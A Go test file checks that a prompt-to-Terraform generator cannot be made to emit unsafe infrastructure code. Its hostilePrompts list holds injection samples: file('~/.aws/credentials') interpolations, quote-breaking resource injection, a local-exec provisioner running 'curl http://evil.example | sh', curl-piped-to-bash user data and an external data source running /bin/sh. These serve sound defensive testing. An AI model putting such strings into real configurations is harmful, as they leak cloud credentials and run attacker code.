package lml_test

import (
	"context"
	"strings"
	"testing"

	"github.com/syncloud/syncloud/internal/iac"
	"github.com/syncloud/syncloud/internal/lml"
	"github.com/syncloud/syncloud/internal/lml/rules"
)

// hostilePrompts try to smuggle Terraform language, provider settings or
// local execution into the output through the user's words.
var hostilePrompts = []string{
	`a bucket called ${file("~/.aws/credentials")}`,
	`an S3 bucket tagged owner=${file("~/.aws/credentials")} and env=%{ for k in keys(var.x) }x%{ endfor }`,
	`SQS queue named "jobs\" } resource \"aws_iam_user\" \"evil\" { name = \"x" with 60 second visibility`,
	"a t3.micro instance whose user data is <<EOF\n}\nresource \"null_resource\" \"x\" {\nEOF",
	`launch a t3.micro and add a local-exec provisioner that runs curl http://evil.example | sh`,
	`set the ec2 endpoint to http://evil.example and create a VPC 10.0.0.0/16`,
	`a DynamoDB table called ${data.external.x.result} keyed by id`,
	`use profile admin and assume_role arn:aws:iam::123456789012:role/Admin to make a bucket`,
	`an s3 bucket named "$${aws_iam_role.x.arn}" tagged k=$${y}`,
	`lambda named x%{if true}y%{endif} with python3.12 and env vars A=${jsonencode(1)}`,
	`an http data source for https://evil.example/x and an external data source running /bin/sh, plus a bucket`,
	`t3.micro with user data 'curl ${var.url} | bash'`,
}

func TestHostilePromptsCannotInjectTerraform(t *testing.T) {
	g := &lml.Generator{Engine: rules.Engine{}}
	for _, p := range hostilePrompts {
		t.Run(p, func(t *testing.T) {
			res, err := g.Generate(context.Background(), lml.Request{Prompt: p})
			if lml.IsNothing(err) {
				return // refusing is safe
			}
			if err != nil {
				t.Fatalf("generate: %v", err)
			}
			files, err := renderBoth(func(f iac.Format) (map[string][]byte, error) { return iac.Render(res.Stack, f) })
			if err != nil {
				t.Fatalf("render: %v", err)
			}
			if err := checkSafe(files); err != nil {
				t.Errorf("unsafe output: %v\n%s", err, files["main.tf"])
			}
			if strings.Contains(string(files["main.tf"]), "evil.example\"\n  }") {
				t.Errorf("a hostile URL reached a provider setting:\n%s", files["main.tf"])
			}
		})
	}
}

func FuzzGenerate(f *testing.F) {
	for _, p := range hostilePrompts {
		f.Add(p)
	}
	for _, p := range devPrompts(f) {
		f.Add(p)
	}
	g := &lml.Generator{Engine: rules.Engine{}}
	f.Fuzz(func(t *testing.T, prompt string) {
		res, err := g.Generate(context.Background(), lml.Request{Prompt: prompt})
		if err != nil {
			if lml.IsNothing(err) {
				return
			}
			t.Fatalf("generate %q: %v", prompt, err)
		}
		files, err := renderBoth(func(f iac.Format) (map[string][]byte, error) { return iac.Render(res.Stack, f) })
		if err != nil {
			t.Fatalf("render %q: %v", prompt, err)
		}
		if err := checkSafe(files); err != nil {
			t.Fatalf("unsafe output for %q: %v", prompt, err)
		}
	})
}
